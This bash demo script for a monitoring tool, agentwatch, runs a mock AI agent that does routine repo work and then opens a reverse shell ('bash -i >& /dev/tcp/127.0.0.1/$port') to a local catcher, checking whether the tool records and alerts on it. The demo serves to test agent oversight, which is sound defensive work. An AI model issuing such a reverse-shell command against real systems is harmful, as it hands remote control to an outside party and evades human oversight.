#!/usr/bin/env bash
# make demo: an agent opens a reverse shell to a catcher on 127.0.0.1, under agentwatch.
set -euo pipefail
cd "$(dirname "$0")/.."
AW=.build/release/agentwatch
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

/usr/bin/python3 Fixtures/rogue/catcher.py "$work/port" "$work/received" "id; exit
" 10 &
catcher=$!
for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.05; done
port=$(cat "$work/port")

cat > "$work/agent.sh" <<AGENT
echo 'agent: reading the repo'; ls >/dev/null; git --version >/dev/null
echo 'agent: opening a shell for my operator'
bash -c 'bash -i >& /dev/tcp/127.0.0.1/$port 0>&1'
echo 'agent: done'
AGENT
echo "== an agent does honest work, then opens a reverse shell to a catcher on 127.0.0.1:$port"
echo "== agentwatch run --trace demo.jsonl --alerts alerts.jsonl -- sh agent.sh   (built-in policy pack)"
set +e
"$AW" run --trace "$work/demo.jsonl" --alerts "$work/alerts.jsonl" -- sh "$work/agent.sh"
status=$?
set -e
wait "$catcher" || true
echo
echo "== agentwatch exit status: $status"
echo "== events recorded in the trace: $(($(wc -l < "$work/demo.jsonl") - 1)); alerts: $(wc -l < "$work/alerts.jsonl")"
"$AW" report "$work/demo.jsonl" --format md | sed -n '/## Process tree/,/## Timeline/p' | head -n -1
echo "== bytes the catcher on 127.0.0.1:$port received from the agent: $(wc -c < "$work/received")"
